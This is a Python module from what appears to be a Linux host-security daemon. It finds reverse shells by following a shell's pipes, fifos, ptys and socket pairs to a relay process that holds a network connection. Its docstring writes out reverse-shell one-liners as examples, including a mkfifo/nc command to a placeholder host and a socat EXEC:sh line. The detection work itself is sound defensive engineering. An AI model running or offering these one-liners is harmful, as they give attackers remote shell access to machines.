"""The stdio graph: who a shell talks to through pipes, fifos, ptys and
socket pairs.

A reverse shell need not have a socket on its stdio. Node's
``child_process.spawn('/bin/sh', ['-i'])`` gives the shell socket pairs,
Python's ``pty.fork()`` a pty, ``mkfifo f; sh -i <f | nc HOST PORT >f`` a
fifo and a pipe, ``socat TCP:... EXEC:sh,pty`` a pty. What they share: the
shell reads its commands from, and writes its output to, a process that
holds a network connection -- the *relay*, in whatever language. This
module finds the relays of one shell or interpreter:

- its input (fd 0) and output (fd 1 or 2) must be channels: a pipe, a
  fifo, a pty (the master's ``tty-index`` in fdinfo pairs it with
  /dev/pts/N) or a unix socket pair (sock_diag names the peer);
- the processes of its neighbourhood (the subtree of its grandparent, or
  of its parent when the grandparent is init; at most NEIGHBOURHOOD_LIMIT,
  live from /proc/PID/task/*/children, the shell's own subtree left out)
  are read once (their fd tables) and joined to those channels;
- following data the way it flows -- to the shell's input from the
  processes that write into it (and, through a process that holds no
  network socket, such as ``cat f |``, from what that process reads), and
  from the shell's output to what reads it -- for at most MAX_HOPS
  channels, a process met on both sides that holds a connected inet
  socket (not a listener) is a relay.

A connection to a 127.x address counts: a remote peer reached through a
port forward (ssh -R, frp) is a loopback connection here. Whether a relay
is benign (sshd, which is a relay of every ssh session) is for rules to
say (the ``stdio_relay`` condition).

Cost: asked only when a rule asks (a shell or interpreter reading its
commands from stdin): three readlinks for its stdio; the neighbourhood's
fd tables and one sock_diag dump only when fd 0 and fd 1 or 2 are
channels, and at most READS_PER_S such reads a second (a storm of them
waits, pending, for the sweep). A shell whose stdio are channels and whose
relay is not found
(yet: the relay may connect after the shell started, or accept a
connection, which raises no event) is *pending* for PENDING_S: a connect
by a process of its neighbourhood asks again at once, and ``due()``
(the daemon's sweep, every SWEEP_S) hands it back for judgement.

This module reads /proc and sock_diag only through rome_guard.procfs and
sensors.sockdiag; it never decides (rules do) and never acts.
"""

from __future__ import annotations

import time
from collections import OrderedDict
from dataclasses import dataclass
from typing import Callable

from rome_guard import procfs
from rome_guard.events import Endpoint, ProcessInfo, ProcessKey
from rome_guard.linux import has_peer
from rome_guard.procfs import END_UNIX, Channel, FdTable
from rome_guard.sensors import sockdiag

NEIGHBOURHOOD_LIMIT = 64  # processes whose fd tables one judgement reads
MAX_HOPS = 3  # channels between a shell and its relay (sh <- pipe <- cat <- fifo <- nc)
PENDING_S = 30.0  # how long a shell on channels waits for its relay
SWEEP_S = 1.0  # how often a pending shell is looked at again
PENDING_LIMIT = 256
# neighbourhood reads per second at most: a storm of interactive shells on
# pipes (thousands a second) leaves the rest pending for the sweep instead
# of stalling the event loop
READS_PER_S = 50
STDIO = (0, 1, 2)


@dataclass(frozen=True)
class Relay:
    """A process that feeds a shell's input and reads its output while
    holding a network connection."""

    process: ProcessInfo
    socket: Endpoint  # its first connected inet socket
    input_via: tuple[str, ...]  # the channel kinds from the relay to the shell's fd 0
    output_via: tuple[str, ...]  # from the shell's fd 1/2 to the relay

    def describe(self) -> str:
        ep = self.socket
        return (
            f"stdin <- {'<-'.join(self.input_via)} and stdout -> {'->'.join(self.output_via)}"
            f" of pid {self.process.pid} ({self.process.comm}) holding"
            f" {ep.proto} {ep.saddr}:{ep.sport} -> {ep.daddr}:{ep.dport}"
        )


@dataclass
class _Pending:
    key: ProcessKey
    anchor: int  # the pid whose subtree is the shell's neighbourhood
    until: float
    next_check: float


class StdioGraph:
    """Relays of shells, and the shells still waiting for one."""

    def __init__(
        self,
        resolve: Callable[[int], ProcessInfo | None],
        lineage: Callable[[ProcessInfo], list[ProcessInfo]],
        sockets: Callable[[], dict[int, Endpoint]],
        *,
        read_fds: Callable[..., FdTable] = procfs.read_fds,
        children_of: Callable[[int], list[int]] = procfs.children_of,
        unix_peer: Callable[[int], int | None] = sockdiag.unix_peer,
        clock: Callable[[], float] = time.monotonic,
    ):
        self._resolve = resolve
        self._lineage = lineage
        self._sockets = sockets  # inet sockets by inode, dumped now
        self._read_fds = read_fds
        self._children_of = children_of
        self._unix_peer = unix_peer
        self._clock = clock
        self._pending: OrderedDict[ProcessKey, _Pending] = OrderedDict()
        self._second = 0.0  # the clock second the read budget is for
        self._reads = 0
        self.deferred = 0  # judgements left pending for want of budget

    def __len__(self) -> int:
        return len(self._pending)

    # --- judgement -------------------------------------------------------------

    def relays(self, info: ProcessInfo) -> list[Relay]:
        """The relays of info's stdio now; [] when its stdio are not channels
        (a terminal of its own, files, sockets) or no relay is found -- then,
        its stdio being channels, it is pending."""
        own = self._read_fds(info.pid, STDIO)
        stdin = self._channel_of(own, 0, reads=True)
        stdout = [c for c in (self._channel_of(own, fd, writes=True) for fd in (1, 2)) if c]
        if stdin is None or not stdout:
            self._pending.pop(info.key, None)
            return []
        anchor = self._anchor(info)
        if anchor and not self._budget():
            self.deferred += 1
            self._remember(info.key, anchor)
            return []
        tables = self._neighbourhood(anchor, info.pid) if anchor else {}
        found = self._join(tables, stdin, stdout)
        if found:
            self._pending.pop(info.key, None)
        elif anchor:
            self._remember(info.key, anchor)
        return found

    def _budget(self) -> bool:
        """Whether one more neighbourhood read fits this second's budget."""
        second = int(self._clock())
        if second != self._second:
            self._second, self._reads = second, 0
        self._reads += 1
        return self._reads <= READS_PER_S

    def _channel_of(
        self, own: FdTable, fd: int, reads: bool = False, writes: bool = False
    ) -> Channel | None:
        end = own.ends.get(fd)
        if end is not None:
            return end.channel if (end.reads if reads else end.writes) else None
        inode = own.sockets.get(fd)
        if inode is None:
            return None
        peer = self._unix_peer(inode)  # a socket pair (node); None for an inet socket
        return (END_UNIX, peer) if peer else None

    def _anchor(self, info: ProcessInfo) -> int:
        """The root of info's neighbourhood: its grandparent, or its parent
        when the grandparent is init (or unknown); 0 when it has no parent."""
        lineage = [p for p in self._lineage(info) if p.pid > 1 and not p.kernel_thread]
        if not lineage:
            return 0
        return lineage[1].pid if len(lineage) > 1 else lineage[0].pid

    def _neighbourhood(self, anchor: int, shell: int) -> dict[int, FdTable]:
        """The fd tables of anchor and its live descendants, breadth first,
        the shell's own subtree (its commands share its stdio) left out."""
        tables: dict[int, FdTable] = {}
        frontier = [anchor]
        while frontier and len(tables) < NEIGHBOURHOOD_LIMIT:
            pid = frontier.pop(0)
            if pid == shell or pid in tables:
                continue
            tables[pid] = self._read_fds(pid)
            frontier.extend(self._children_of(pid))
        return tables

    def _join(
        self, tables: dict[int, FdTable], stdin: Channel, stdout: list[Channel]
    ) -> list[Relay]:
        writers: dict[Channel, list[int]] = {}
        readers: dict[Channel, list[int]] = {}
        for pid, table in tables.items():
            for end in table.ends.values():
                if end.writes:
                    writers.setdefault(end.channel, []).append(pid)
                if end.reads:
                    readers.setdefault(end.channel, []).append(pid)
            for inode in table.sockets.values():  # the far end of a shell's socket pair
                writers.setdefault((END_UNIX, inode), []).append(pid)
                readers.setdefault((END_UNIX, inode), []).append(pid)
        if not any(table.sockets for table in tables.values()):
            return []
        inet = self._sockets()
        network = {}
        for pid, table in tables.items():
            for inode in table.sockets.values():
                ep = inet.get(inode)
                if ep is not None and has_peer(ep):
                    network[pid] = ep
                    break
        if not network:
            return []
        into = _reach([stdin], writers, tables, network, upstream=True)
        out_of = _reach(stdout, readers, tables, network, upstream=False)
        relays = []
        for pid in into.keys() & out_of.keys():
            process = self._resolve(pid)
            if process is not None:
                relays.append(Relay(process, network[pid], into[pid], out_of[pid]))
        return sorted(relays, key=lambda r: r.process.pid)

    # --- shells waiting for their relay --------------------------------------

    def _remember(self, key: ProcessKey, anchor: int) -> None:
        now = self._clock()
        known = self._pending.get(key)
        if known is not None:
            known.next_check = now + SWEEP_S
            return
        self._pending[key] = _Pending(key, anchor, now + PENDING_S, now + SWEEP_S)
        while len(self._pending) > PENDING_LIMIT:
            self._pending.popitem(last=False)

    def pending_near(self, info: ProcessInfo) -> list[ProcessKey]:
        """Pending shells in whose neighbourhood info lives (info or one of
        its ancestors is the neighbourhood's root): info just connected."""
        if not self._pending:
            return []
        pids = {info.pid} | {p.pid for p in self._lineage(info)}
        return [p.key for p in self._pending.values() if p.anchor in pids and p.key != info.key]

    def due(self) -> list[ProcessKey]:
        """Pending shells to look at again now; the expired are forgotten."""
        if not self._pending:
            return []
        now = self._clock()
        due = []
        for key, pending in list(self._pending.items()):
            if now > pending.until:
                del self._pending[key]
            elif now >= pending.next_check:
                pending.next_check = now + SWEEP_S
                due.append(key)
        return due

    def forget(self, key: ProcessKey) -> None:
        self._pending.pop(key, None)


def _reach(
    start: list[Channel],
    holders: dict[Channel, list[int]],
    tables: dict[int, FdTable],
    network: dict[int, Endpoint],
    upstream: bool,
) -> dict[int, tuple[str, ...]]:
    """Network-holding processes that data reaches the shell from
    (upstream: through what they write) or goes to from the shell (through
    what they read), over at most MAX_HOPS channels; pid -> the channel
    kinds on the way, nearest the shell first."""
    found: dict[int, tuple[str, ...]] = {}
    seen = set(start)
    frontier = [(channel, (channel[0],)) for channel in start]
    for _hop in range(MAX_HOPS):
        following = []
        for channel, via in frontier:
            for pid in holders.get(channel, ()):
                if pid in network:
                    found.setdefault(pid, via)
                    continue
                # a process in between (cat, tee, script): data crosses it
                # from what it reads to what it writes
                for end in tables[pid].ends.values():
                    onward = end.reads if upstream else end.writes
                    if onward and end.channel not in seen:
                        seen.add(end.channel)
                        following.append((end.channel, (*via, end.channel[0])))
        frontier = following
    return found
